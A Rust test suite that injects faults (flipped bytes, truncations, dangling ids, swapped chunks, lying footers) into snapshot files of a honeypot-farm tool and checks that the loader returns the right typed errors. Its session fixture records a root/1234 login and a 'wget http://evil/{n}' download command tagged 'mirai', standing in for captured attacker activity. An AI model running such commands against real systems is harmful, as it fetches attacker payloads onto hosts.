//! Fault-injection suite for the hfstore loader: flip bytes, truncate
//! sections, plant dangling ids — every corruption must surface as the
//! right typed [`SnapshotError`], never a panic or a silent mis-read.

use std::io::Cursor;

use honeyfarm::cluster::features_from_snapshot_stream;
use honeyfarm::farm::snapshot::{FORMAT_VERSION, MAGIC, ROWS_PER_CHUNK, SECTIONS};
use honeyfarm::farm::{
    FarmPlan, Row, SessionStore, Snapshot, SnapshotError, SnapshotMeta, SnapshotReader, TagDb,
};
use honeyfarm::geo::{country, CountryId, Ip4};
use honeyfarm::hash::Sha256;
use honeyfarm::honeypot::{EndReason, LoginAttempt, SessionRecord};
use honeyfarm::proto::creds::Credentials;
use honeyfarm::proto::Protocol;
use honeyfarm::shell::CommandRecord;
use honeyfarm::sim::FoldOutput;
use honeyfarm::simclock::SimInstant;
use honeyfarm::testkit::{restamp_rows, RowsLayout};

/// Header size: magic + version + section count.
const HEADER: usize = 8 + 4 + 4;
/// Footer size: META's offset (u64) + magic.
const FOOTER: usize = 8 + 8;
/// Per-section frame of every section but ROWS: id (u32) + len (u64) +
/// sha-256 (32 bytes).
const FRAME: usize = 4 + 8 + 32;
/// A SHA-256 digest: each chunk opens with one, and one closes ROWS.
const DIGEST: usize = 32;
/// A chunk's frame: its digest, then its payload length (u32).
const CHUNK_FRAME: usize = DIGEST + 4;
/// Offset of the row count inside the META payload (after seed, two
/// scales, days and client count).
const META_N_ROWS: usize = 8 + 8 + 8 + 4 + 8;

fn record(n: u64) -> SessionRecord {
    SessionRecord {
        honeypot: (n % 221) as u16,
        protocol: Protocol::Ssh,
        client_ip: Ip4::new(16, 0, n as u8, 1),
        client_port: 40_000,
        start: SimInstant::from_day_and_secs((n % 7) as u32, 60 * n as u32),
        duration_secs: 30,
        ended_by: EndReason::ClientClose,
        ssh_client_version: Some("SSH-2.0-Go".into()),
        logins: vec![LoginAttempt {
            creds: Credentials::new("root", "1234"),
            accepted: true,
        }],
        commands: vec![CommandRecord {
            input: format!("wget http://evil/{n}"),
            known: true,
        }],
        uris: vec![format!("http://evil/{n}")],
        file_hashes: vec![Sha256::digest(&n.to_le_bytes())],
        download_hashes: vec![Sha256::digest(&n.to_be_bytes())],
    }
}

/// A small but fully-populated snapshot.
fn snapshot() -> Snapshot {
    let mut store = SessionStore::new();
    let mut tags = TagDb::new();
    for n in 0..8 {
        let r = record(n);
        for h in r.file_hashes.iter().chain(r.download_hashes.iter()) {
            tags.record(*h, "mirai", "H1");
        }
        store.ingest(&r, None);
    }
    Snapshot {
        meta: SnapshotMeta {
            seed: 1,
            scale_volume: 0.001,
            scale_hashes: 0.03,
            days: 7,
            n_clients: 8,
        },
        plan: FarmPlan::paper(),
        sessions: store,
        tags,
    }
}

/// The fixture serialized at the writer's default chunk size (one chunk).
fn snapshot_bytes() -> Vec<u8> {
    chunked(ROWS_PER_CHUNK, |_| {})
}

/// The fixture with `edit` applied to its rows, written through the real
/// writer at `rows_per_chunk`: a faulty row reaches the file exactly as a
/// buggy or hostile producer would write it.
fn chunked(rows_per_chunk: u32, edit: impl FnOnce(&mut [Row])) -> Vec<u8> {
    let mut snap = snapshot();
    let mut rows = snap.sessions.rows().to_vec();
    edit(&mut rows);
    snap.sessions.retire_rows();
    snap.sessions.set_rows(rows);
    let mut bytes = Vec::new();
    snap.write_to_chunked(&mut bytes, rows_per_chunk)
        .expect("write snapshot");
    bytes
}

fn load(bytes: &[u8]) -> Result<Snapshot, SnapshotError> {
    Snapshot::read_from(&mut Cursor::new(bytes))
}

/// Every reader of a faulty `bytes` — the materializing load and both
/// stream folds (the report's and the cluster features') — must refuse it
/// as a `Corrupt` `section` whose detail names `what`, never panic.
fn assert_corrupt_everywhere(bytes: &[u8], section: &str, what: &str) {
    let refusals = [
        ("read_from", load(bytes).err()),
        (
            "report fold",
            FoldOutput::from_snapshot_stream(Cursor::new(bytes)).err(),
        ),
        (
            "feature fold",
            features_from_snapshot_stream(Cursor::new(bytes)).err(),
        ),
    ];
    for (reader, err) in refusals {
        match err {
            Some(SnapshotError::Corrupt {
                section: found,
                detail,
            }) => {
                assert_eq!(found, section, "{reader}: {detail}");
                assert!(detail.contains(what), "{reader}: {detail}");
            }
            other => panic!("{reader}: expected Corrupt {section} naming {what:?}, got {other:?}"),
        }
    }
}

fn u64_at(bytes: &[u8], at: usize) -> usize {
    u64::from_le_bytes(bytes[at..at + 8].try_into().expect("u64 field")) as usize
}

/// Where META starts: the offset the footer states.
fn meta_offset(bytes: &[u8]) -> usize {
    u64_at(bytes, bytes.len() - FOOTER)
}

/// `bytes` with the footer's META offset set to `at`.
fn with_meta_offset(bytes: &[u8], at: u64) -> Vec<u8> {
    let mut bytes = bytes.to_vec();
    let footer = bytes.len() - FOOTER;
    bytes[footer..footer + 8].copy_from_slice(&at.to_le_bytes());
    bytes
}

/// Walk the sections, returning `(start, len)` per section in file order:
/// the payload behind the frame for framed sections, and for ROWS
/// everything behind its id (`rows_per_chunk`, the chunks, the trailer).
fn section_spans(bytes: &[u8]) -> Vec<(usize, usize)> {
    let rows = RowsLayout::of(bytes);
    assert_eq!(
        rows.end(),
        meta_offset(bytes),
        "the rows end where META starts"
    );
    let mut spans = Vec::new();
    let mut off = HEADER;
    for (_, name) in SECTIONS {
        let span = if name == "rows" {
            (off + 4, rows.end() - rows.start)
        } else {
            (off + FRAME, u64_at(bytes, off + 4))
        };
        spans.push(span);
        off = span.0 + span.1;
    }
    assert_eq!(off + FOOTER, bytes.len(), "walk must cover the whole file");
    spans
}

/// Re-stamp a section's checksum after deliberately editing its payload
/// (to reach validation layers deeper than the checksum).
fn restamp(bytes: &mut [u8], payload_start: usize, payload_len: usize) {
    let digest = Sha256::digest(&bytes[payload_start..payload_start + payload_len]);
    bytes[payload_start - 32..payload_start].copy_from_slice(&digest.0);
}

#[test]
fn pristine_snapshot_loads() {
    let bytes = snapshot_bytes();
    let snap = load(&bytes).expect("pristine snapshot must load");
    assert_eq!(snap.sessions.len(), 8);
    // 8 file + 8 download hashes, but n = 0 encodes identically in LE and
    // BE so its pair collapses to one digest.
    assert_eq!(snap.tags.len(), 15);
}

#[test]
fn bad_magic_is_rejected() {
    let mut bytes = snapshot_bytes();
    bytes[0] ^= 0xff;
    match load(&bytes) {
        Err(SnapshotError::BadMagic { found }) => assert_ne!(found, MAGIC),
        other => panic!("expected BadMagic, got {other:?}"),
    }
}

/// Any other version is refused before a section is read: version 2 (rows
/// checksummed ahead of their data), version 3 (fixed 48-byte rows) and
/// version 4 (pools before the rows) included.
#[test]
fn version_mismatch_is_rejected() {
    assert_eq!(FORMAT_VERSION, 5);
    for version in [2u32, 3, 4, 99] {
        let mut bytes = snapshot_bytes();
        bytes[8..12].copy_from_slice(&version.to_le_bytes());
        match load(&bytes) {
            Err(SnapshotError::UnsupportedVersion { found, supported }) => {
                assert_eq!((found, supported), (version, 5));
            }
            other => panic!("version {version}: expected UnsupportedVersion, got {other:?}"),
        }
    }
}

#[test]
fn flipped_byte_in_every_section_is_caught_by_its_checksum() {
    let pristine = snapshot_bytes();
    let spans = section_spans(&pristine);
    assert_eq!(spans.len(), SECTIONS.len());
    for (i, &(start, len)) in spans.iter().enumerate() {
        let (_, name) = SECTIONS[i];
        assert!(len > 0, "section {name} must have a payload to corrupt");
        let mut bytes = pristine.clone();
        bytes[start + len / 2] ^= 0x40;
        match load(&bytes) {
            // The rows payload is chunked; a mid-payload flip lands in
            // chunk data and is blamed on that chunk, not the section.
            Err(SnapshotError::ChunkChecksumMismatch { section, .. }) if name == "rows" => {
                assert_eq!(section, "rows");
            }
            Err(SnapshotError::ChecksumMismatch { section }) if name != "rows" => {
                assert_eq!(section, name, "flip in {name} blamed on {section}");
            }
            other => panic!("flip in {name}: expected a checksum mismatch, got {other:?}"),
        }
    }
}

#[test]
fn truncation_anywhere_is_a_typed_error() {
    let pristine = snapshot_bytes();
    // Cut the file at a spread of boundaries: inside the header, inside
    // each section frame, inside each payload, inside the footer, and just
    // before the end. Every cut past the header loses the footer.
    let end = pristine.len();
    let mut cuts = vec![0, 1, HEADER - 1, HEADER, end - FOOTER, end - 8, end - 1];
    for (&(start, len), (_, name)) in section_spans(&pristine).iter().zip(SECTIONS) {
        if name == "rows" {
            cuts.push(start - 2); // mid section-id
            cuts.push(start + 2); // mid rows_per_chunk
            cuts.push(start + len - DIGEST / 2); // mid trailer
        } else {
            cuts.push(start - FRAME + 2); // mid section-id
            cuts.push(start - 20); // mid checksum
        }
        cuts.push(start + len / 2); // mid payload
    }
    for cut in cuts {
        let bytes = &pristine[..cut];
        match load(bytes) {
            Err(SnapshotError::Truncated { .. }) => {}
            other => panic!(
                "cut at {cut}/{}: expected Truncated, got {other:?}",
                pristine.len()
            ),
        }
    }
}

#[test]
fn unexpected_section_id_is_rejected() {
    // Overwrite the id of the first section (ROWS = 9) and of the section
    // the footer points at (META = 1) with a stranger.
    let pristine = snapshot_bytes();
    for (at, id) in [(HEADER, 9), (meta_offset(&pristine), 1)] {
        let mut bytes = pristine.clone();
        bytes[at..at + 4].copy_from_slice(&42u32.to_le_bytes());
        match load(&bytes) {
            Err(SnapshotError::UnexpectedSection { expected, found }) => {
                assert_eq!((expected, found), (id, 42));
            }
            other => panic!("id at {at}: expected UnexpectedSection, got {other:?}"),
        }
    }
}

#[test]
fn dangling_ssh_version_id_is_rejected() {
    // Point the first row's ssh_version_id far past the pool. The writer
    // stamps every checksum, so only the semantic validator can object.
    let bytes = chunked(ROWS_PER_CHUNK, |rows| rows[0].ssh_version_id = 0x7fff_fff0);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "ssh_version");
            assert_eq!(id, 0x7fff_fff0);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn dangling_list_id_is_rejected() {
    let bytes = chunked(ROWS_PER_CHUNK, |rows| rows[0].login_list_id = 0x00ff_ffff);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, .. }) => assert_eq!(kind, "list"),
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

/// A resolvable command list whose entry names a command past the pool.
#[test]
fn dangling_command_id_is_rejected() {
    let list_id = snapshot().sessions.lists.len() as u32;
    let bytes = chunked(ROWS_PER_CHUNK, |rows| rows[0].cmd_list_id = list_id);
    let bytes = with_lists(&bytes, |lists| {
        assert_eq!(lists.len() as u32, list_id);
        lists.push(vec![u32::MAX - 1]);
    });
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "command");
            assert_eq!(id, (u32::MAX - 1) >> 1);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

/// An out-of-range protocol or end reason, written by the real writer, is
/// refused by the reader.
#[test]
fn corrupt_row_enum_is_rejected() {
    let faults: [fn(&mut Row); 4] = [
        |r| r.protocol = 9,
        |r| r.protocol = 2,
        |r| r.end_reason = 3,
        |r| r.end_reason = 200,
    ];
    for (i, fault) in faults.into_iter().enumerate() {
        let bytes = chunked(ROWS_PER_CHUNK, |rows| fault(&mut rows[5]));
        match load(&bytes) {
            Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
            other => panic!("fault {i}: expected Corrupt, got {other:?}"),
        }
    }
}

#[test]
fn lying_interior_length_is_rejected() {
    let mut bytes = snapshot_bytes();
    let spans = section_spans(&bytes);
    let creds_idx = SECTIONS.iter().position(|(_, n)| *n == "creds").unwrap();
    let (start, len) = spans[creds_idx];
    // First string's length field (after the u32 pool count): claim more
    // bytes than the payload holds.
    bytes[start + 4..start + 8].copy_from_slice(&u32::MAX.to_le_bytes());
    restamp(&mut bytes, start, len);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "creds"),
        other => panic!("expected Corrupt, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Chunk-granular faults in the streaming rows section.

/// A flipped byte inside a chunk's payload is blamed on that exact chunk.
#[test]
fn flipped_chunk_data_names_the_chunk() {
    // 3 rows/chunk: 8 rows → chunks of 3, 3, 2, so a non-zero chunk index
    // is reachable.
    let bytes = chunked(3, |_| {});
    load(&bytes).expect("a many-chunk snapshot must load");
    for (i, chunk) in RowsLayout::of(&bytes).chunks.iter().enumerate() {
        let mut corrupted = bytes.clone();
        corrupted[(chunk.payload.start + chunk.payload.end) / 2] ^= 0x01;
        match load(&corrupted) {
            Err(SnapshotError::ChunkChecksumMismatch { section, chunk }) => {
                assert_eq!(section, "rows");
                assert_eq!(
                    chunk as usize, i,
                    "flip in chunk {i} blamed on chunk {chunk}"
                );
            }
            other => panic!("flip in chunk {i}: expected ChunkChecksumMismatch, got {other:?}"),
        }
    }
}

/// A flipped byte in a chunk's *stored digest* also fails that chunk's
/// verification (the trailer would catch it too, but the chunk check fires
/// first and localizes the damage).
#[test]
fn flipped_chunk_digest_is_caught() {
    let mut bytes = snapshot_bytes();
    let at = RowsLayout::of(&bytes).chunks[0].at;
    bytes[at] ^= 0x80; // first byte of the chunk digest
    match load(&bytes) {
        Err(SnapshotError::ChunkChecksumMismatch { section, chunk }) => {
            assert_eq!((section, chunk), ("rows", 0));
        }
        other => panic!("expected ChunkChecksumMismatch, got {other:?}"),
    }
}

/// A META row count that disagrees with the rows section gives the chunk
/// that holds the true end the wrong row count: its payload passes its
/// digest but does not decode as that many rows.
#[test]
fn meta_row_count_that_disagrees_with_the_rows_is_rejected() {
    let pristine = snapshot_bytes();
    let meta = meta_offset(&pristine) + FRAME;
    let meta_len = u64_at(&pristine, meta_offset(&pristine) + 4);
    for lie in [7u64, 9] {
        let mut bytes = pristine.clone();
        let at = meta + META_N_ROWS;
        bytes[at..at + 8].copy_from_slice(&lie.to_le_bytes());
        restamp(&mut bytes, meta, meta_len);
        match load(&bytes) {
            Err(SnapshotError::Corrupt { section, .. }) => {
                assert_eq!(section, "rows", "META claims {lie} rows");
            }
            other => panic!("META claims {lie} rows: expected Corrupt, got {other:?}"),
        }
    }
}

/// `rows_per_chunk` outside `1..=MAX_ROWS_PER_CHUNK` is rejected up front —
/// a hostile value can never size an allocation.
#[test]
fn lying_rows_per_chunk_is_rejected() {
    for lie in [0u32, u32::MAX] {
        let mut bytes = snapshot_bytes();
        let start = RowsLayout::of(&bytes).start;
        bytes[start..start + 4].copy_from_slice(&lie.to_le_bytes());
        match load(&bytes) {
            Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "rows"),
            other => panic!("rows_per_chunk={lie}: expected Corrupt, got {other:?}"),
        }
    }
}

/// A chunk payload length above what its row count can need is refused
/// before any of it is read, so no length word can size a buffer.
#[test]
fn lying_chunk_payload_length_is_rejected() {
    let pristine = chunked(3, |_| {});
    for chunk in [0, 2] {
        let mut bytes = pristine.clone();
        let at = RowsLayout::of(&bytes).chunks[chunk].at + DIGEST;
        bytes[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
        match load(&bytes) {
            Err(SnapshotError::Corrupt { section, detail }) => {
                assert_eq!(section, "rows");
                assert!(
                    detail.contains(&format!("chunk {chunk} declares")),
                    "{detail}"
                );
            }
            other => panic!("chunk {chunk}: expected Corrupt, got {other:?}"),
        }
    }
}

/// A dangling id planted in the *last* chunk is still caught, and the
/// prefetching fold delivers the error in chunk order after the clean
/// chunks before it.
#[test]
fn dangling_id_in_a_later_chunk_is_rejected() {
    // Row 6 (day 6) is the writer's last row, in the last of the chunks
    // 3, 3, 2.
    let bytes = chunked(3, |rows| rows[6].login_list_id = 0x00ff_fffe);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!(kind, "list");
            assert_eq!(id, 0x00ff_fffe);
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

/// Truncation exactly at a chunk boundary (a valid prefix of chunks, then
/// nothing) is a typed truncation error, not a short read of partial data —
/// at every chunk's start, inside and behind its frame, one byte short of
/// its end, and at every byte of the trailer. The cut loses the footer,
/// which the reader reads before any chunk.
#[test]
fn truncation_at_chunk_boundary_is_typed() {
    let bytes = chunked(3, |_| {});
    let layout = RowsLayout::of(&bytes);
    assert_eq!(layout.chunks.len(), 3);
    let mut cuts: Vec<usize> = (layout.trailer..layout.end()).collect();
    for chunk in &layout.chunks {
        let at = chunk.at;
        cuts.extend([at, at + DIGEST, at + DIGEST + 2, at + CHUNK_FRAME]);
        cuts.push(chunk.payload.end - 1);
    }
    for cut in cuts {
        match load(&bytes[..cut]) {
            Err(SnapshotError::Truncated { section }) => {
                assert_eq!(section, "footer", "cut {cut}")
            }
            other => panic!("cut at {cut}: expected Truncated, got {other:?}"),
        }
    }
}

/// A flipped trailer byte leaves every chunk intact, so the rows section
/// as a whole is blamed.
#[test]
fn flipped_trailer_digest_is_a_rows_checksum_mismatch() {
    let pristine = chunked(3, |_| {});
    let at = RowsLayout::of(&pristine).trailer;
    for i in [0, DIGEST / 2, DIGEST - 1] {
        let mut bytes = pristine.clone();
        bytes[at + i] ^= 0x10;
        match load(&bytes) {
            Err(SnapshotError::ChecksumMismatch { section }) => assert_eq!(section, "rows"),
            other => panic!("trailer byte {i}: expected ChecksumMismatch, got {other:?}"),
        }
    }
}

/// `pristine` with its first two chunks (full and adjacent) swapped whole,
/// each with its own digest and length.
fn swap_first_chunks(pristine: &[u8]) -> Vec<u8> {
    let layout = RowsLayout::of(pristine);
    let (a, b) = (&layout.chunks[0], &layout.chunks[1]);
    assert_eq!(a.payload.end, b.at, "adjacent chunks");
    let mut bytes = pristine[..a.at].to_vec();
    bytes.extend_from_slice(&pristine[b.at..b.payload.end]);
    bytes.extend_from_slice(&pristine[a.at..a.payload.end]);
    bytes.extend_from_slice(&pristine[b.payload.end..]);
    bytes
}

/// Two full chunks swapped, each with its own digest and length, pass every
/// chunk check and decode on their own; only the trailer, which digests the
/// chunk digests in order, catches the reordering. Every row is moved to
/// day 0 first, so the swap keeps the rows day-ordered and the row
/// contract passes them.
#[test]
fn swapped_full_chunks_are_a_rows_checksum_mismatch() {
    let bytes = swap_first_chunks(&chunked(3, |rows| {
        rows.iter_mut().for_each(|r| r.start_secs %= 86_400)
    }));
    match load(&bytes) {
        Err(SnapshotError::ChecksumMismatch { section }) => assert_eq!(section, "rows"),
        other => panic!("swapped chunks: expected ChecksumMismatch, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// The row contract: rules a checksum cannot enforce, each written by the
// real writer (or re-stamped), refused by every reader before a fold.

/// A row whose honeypot is not in the plan would index past the fold's
/// per-honeypot tables.
#[test]
fn row_honeypot_past_the_plan_is_rejected() {
    for honeypot in [500, 221] {
        let bytes = chunked(ROWS_PER_CHUNK, |rows| rows[0].honeypot = honeypot);
        let what = format!("honeypot {honeypot}; the plan has 221");
        assert_corrupt_everywhere(&bytes, "rows", &what);
    }
}

/// A client country past the catalog is refused; `u16::MAX` (unknown, as
/// every fixture row has it) is not.
#[test]
fn row_country_past_the_catalog_is_rejected() {
    load(&snapshot_bytes()).expect("unknown countries load");
    for id in [900, country::count() as u16] {
        let bytes = chunked(ROWS_PER_CHUNK, |rows| rows[3].client_country = id);
        assert_corrupt_everywhere(&bytes, "rows", &format!("country {id}; the catalog"));
    }
}

#[test]
fn plan_node_country_past_the_catalog_is_rejected() {
    let mut snap = snapshot();
    snap.plan.nodes[7].country = CountryId(900);
    let mut bytes = Vec::new();
    snap.write_to(&mut bytes).expect("write snapshot");
    assert_corrupt_everywhere(&bytes, "plan", "node 7 names country 900");
}

/// Two full chunks swapped and re-stamped pass every checksum, and each
/// is day-ordered on its own: only the day of the first row of the second
/// chunk, earlier than the last row of the first, breaks the contract.
#[test]
fn backward_day_across_a_chunk_boundary_is_rejected() {
    let mut bytes = swap_first_chunks(&chunked(3, |_| {}));
    restamp_rows(&mut bytes);
    // Days 0 0 1 | 2 3 4 | 5 6 in writer order, now 2 3 4 | 0 0 1 | 5 6.
    assert_corrupt_everywhere(&bytes, "rows", "a day-0 row follows day 4");
}

/// A row on a day past META's window would grow every per-day table of the
/// folds to that day: one edited row of a 7-day snapshot on day 49,710,
/// the last day a `u32` start can name, is refused, as is the first day
/// past the window. The writer puts the edited row last, so day order
/// holds.
#[test]
fn row_day_past_the_meta_window_is_rejected() {
    for day in [7u32, 49_710] {
        let bytes = chunked(ROWS_PER_CHUNK, |rows| rows[2].start_secs = day * 86_400);
        let what = format!("a row starts on day {day}; META states 7 days");
        assert_corrupt_everywhere(&bytes, "rows", &what);
    }
}

/// A payload edited in place and re-stamped passes every checksum and
/// reaches the column decoder, which refuses a client index outside the
/// chunk's dictionary.
#[test]
fn restamped_client_index_past_the_dictionary_is_dangling() {
    let mut bytes = snapshot_bytes();
    let payload = RowsLayout::of(&bytes).chunks[0].payload.clone();
    let word = |at: usize| u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize;
    // [client count][10-byte clients][12 column lengths][columns]: the
    // client column is the fifth, and its first value is row 0's index.
    let clients = word(payload.start);
    let dir = payload.start + 4 + 10 * clients;
    let client_col = dir + 4 * 12 + (0..4).map(|i| word(dir + 4 * i)).sum::<usize>();
    assert_eq!(bytes[client_col], 0, "row 0 uses the first client");
    bytes[client_col] = clients as u8;
    restamp_rows(&mut bytes);
    match load(&bytes) {
        Err(SnapshotError::DanglingId { kind, id }) => {
            assert_eq!((kind, id as usize), ("client", clients));
        }
        other => panic!("expected DanglingId, got {other:?}"),
    }
}

#[test]
fn empty_input_is_truncated_header() {
    match load(&[]) {
        Err(SnapshotError::Truncated { section }) => assert_eq!(section, "header"),
        other => panic!("expected Truncated header, got {other:?}"),
    }
}

#[test]
fn garbage_input_is_bad_magic() {
    let garbage = [0xA5u8; 64];
    match load(&garbage) {
        Err(SnapshotError::BadMagic { .. }) => {}
        other => panic!("expected BadMagic, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// Footer faults: the reader finds META through the footer, so every way the
// footer can lie is typed before a row is read.

/// A footer that is missing, cut short, or whose magic is not the magic
/// means the file lost its end.
#[test]
fn a_missing_short_or_unmagic_footer_is_truncated() {
    let pristine = snapshot_bytes();
    let end = pristine.len();
    let mut unmagic = pristine.clone();
    unmagic[end - 3] ^= 0x20;
    let cases = [
        ("missing", pristine[..end - FOOTER].to_vec()),
        ("short", pristine[..end - 5].to_vec()),
        ("bad magic", unmagic),
        ("header only", pristine[..HEADER].to_vec()),
    ];
    for (what, bytes) in cases {
        match load(&bytes) {
            Err(SnapshotError::Truncated { section }) => assert_eq!(section, "footer", "{what}"),
            other => panic!("{what} footer: expected Truncated footer, got {other:?}"),
        }
    }
}

/// A META offset past the end of the sections, or inside the header or
/// the rows section's fixed frame, is refused before anything is read
/// there.
#[test]
fn a_meta_offset_outside_the_file_is_corrupt_footer() {
    let pristine = snapshot_bytes();
    let footer = (pristine.len() - FOOTER) as u64;
    for at in [
        footer + 1,
        pristine.len() as u64,
        u64::MAX,
        0,
        HEADER as u64 + 8,
    ] {
        match load(&with_meta_offset(&pristine, at)) {
            Err(SnapshotError::Corrupt { section, detail }) => {
                assert_eq!(section, "footer", "offset {at}");
                assert!(
                    detail.contains(&format!("META offset {at} outside")),
                    "{detail}"
                );
            }
            other => panic!("META offset {at}: expected Corrupt footer, got {other:?}"),
        }
    }
}

/// A META offset inside the chunks (past the smallest rows section, which
/// the first chunk starts inside) finds no META there.
#[test]
fn a_meta_offset_inside_the_rows_finds_no_meta() {
    let pristine = chunked(3, |_| {});
    for chunk in RowsLayout::of(&pristine).chunks.into_iter().skip(1) {
        match load(&with_meta_offset(&pristine, chunk.at as u64)) {
            Err(SnapshotError::UnexpectedSection { expected, .. }) => assert_eq!(expected, 1),
            other => panic!(
                "META offset {}: expected UnexpectedSection, got {other:?}",
                chunk.at
            ),
        }
    }
}

/// The rows section must end exactly at META's offset: bytes between the
/// trailer and META, or a trailer that runs past META, are refused.
#[test]
fn rows_that_end_before_or_after_meta_are_rejected() {
    let pristine = chunked(3, |_| {});
    let meta = meta_offset(&pristine);
    // Four stray bytes before META, the footer moved with it.
    let mut gap = pristine[..meta].to_vec();
    gap.extend_from_slice(&[0; 4]);
    gap.extend_from_slice(&pristine[meta..]);
    match load(&with_meta_offset(&gap, meta as u64 + 4)) {
        Err(SnapshotError::Corrupt { section, detail }) => {
            assert_eq!(section, "rows");
            assert!(
                detail.contains("the rows end 4 bytes before META"),
                "{detail}"
            );
        }
        other => panic!("gap before META: expected Corrupt rows, got {other:?}"),
    }
    // The trailer dropped, so the reader wants 32 bytes past META.
    let trailer = RowsLayout::of(&pristine).trailer;
    let mut short = pristine[..trailer].to_vec();
    short.extend_from_slice(&pristine[meta..]);
    match load(&with_meta_offset(&short, trailer as u64)) {
        Err(SnapshotError::Truncated { section }) => assert_eq!(section, "rows"),
        other => panic!("rows past META: expected Truncated rows, got {other:?}"),
    }
}

/// The tags section must end where the footer starts.
#[test]
fn bytes_between_the_tags_and_the_footer_are_rejected() {
    let pristine = snapshot_bytes();
    let footer = pristine.len() - FOOTER;
    let mut bytes = pristine[..footer].to_vec();
    bytes.extend_from_slice(&[0xA5; 5]);
    bytes.extend_from_slice(&pristine[footer..]);
    match load(&bytes) {
        Err(SnapshotError::Corrupt { section, detail }) => {
            assert_eq!(section, "footer");
            assert!(
                detail.contains("5 bytes between the tags and the footer"),
                "{detail}"
            );
        }
        other => panic!("expected Corrupt footer, got {other:?}"),
    }
}

// ---------------------------------------------------------------------------
// List-pool faults: the duplicate and empty-list checks behind the lists
// section's checksum.

/// Decode the lists payload into its lists, in id order.
fn decode_lists(payload: &[u8]) -> Vec<Vec<u32>> {
    let word = |at: usize| u32::from_le_bytes(payload[at..at + 4].try_into().unwrap());
    let mut off = 4;
    let lists = (0..word(0))
        .map(|_| {
            let len = word(off) as usize;
            let list = (0..len).map(|k| word(off + 4 + 4 * k)).collect();
            off += 4 + 4 * len;
            list
        })
        .collect();
    assert_eq!(off, payload.len(), "list walk must cover the payload");
    lists
}

/// `bytes` with its lists section re-encoded after `edit`, with the
/// section length and checksum re-stamped so the loader reaches the
/// pool's own validation.
fn with_lists(bytes: &[u8], edit: impl FnOnce(&mut Vec<Vec<u32>>)) -> Vec<u8> {
    let spans = section_spans(bytes);
    let lists_idx = SECTIONS.iter().position(|(_, n)| *n == "lists").unwrap();
    let (start, len) = spans[lists_idx];
    let mut lists = decode_lists(&bytes[start..start + len]);
    edit(&mut lists);
    let mut payload = (lists.len() as u32).to_le_bytes().to_vec();
    for list in &lists {
        payload.extend_from_slice(&(list.len() as u32).to_le_bytes());
        for v in list {
            payload.extend_from_slice(&v.to_le_bytes());
        }
    }
    let mut out = bytes[..start - 32 - 8].to_vec();
    out.extend_from_slice(&(payload.len() as u64).to_le_bytes());
    out.extend_from_slice(&[0; 32]);
    out.extend_from_slice(&payload);
    out.extend_from_slice(&bytes[start + len..]);
    restamp(&mut out, start, payload.len());
    out
}

/// Both loaders — the materializing read and the streaming open — must
/// reject `bytes` as a corrupt lists section.
fn assert_lists_corrupt(bytes: &[u8], what: &str) {
    match load(bytes) {
        Err(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "lists", "{what}"),
        other => panic!("{what}: expected Corrupt lists from read, got {other:?}"),
    }
    match SnapshotReader::open(Cursor::new(bytes)).err() {
        Some(SnapshotError::Corrupt { section, .. }) => assert_eq!(section, "lists", "{what}"),
        other => panic!("{what}: expected Corrupt lists from open, got {other:?}"),
    }
}

#[test]
fn re_encoded_lists_section_still_loads() {
    let bytes = with_lists(&snapshot_bytes(), |_| {});
    assert_eq!(bytes, snapshot_bytes());
    assert!(SnapshotReader::open(Cursor::new(&bytes)).is_ok());
}

#[test]
fn repeated_list_is_rejected() {
    let bytes = with_lists(&snapshot_bytes(), |lists| {
        assert!(lists.len() > 3);
        let last = lists.len() - 1;
        lists[last] = lists[1].clone();
    });
    assert_lists_corrupt(&bytes, "repeated list");
}

#[test]
fn non_empty_list_zero_is_rejected() {
    // A value no other list holds, so only the id-0 rule can fire.
    let bytes = with_lists(&snapshot_bytes(), |lists| lists[0] = vec![u32::MAX - 1]);
    assert_lists_corrupt(&bytes, "non-empty list 0");
}

#[test]
fn empty_list_past_id_zero_is_rejected() {
    let bytes = with_lists(&snapshot_bytes(), |lists| lists.push(Vec::new()));
    assert_lists_corrupt(&bytes, "empty list at id > 0");
}
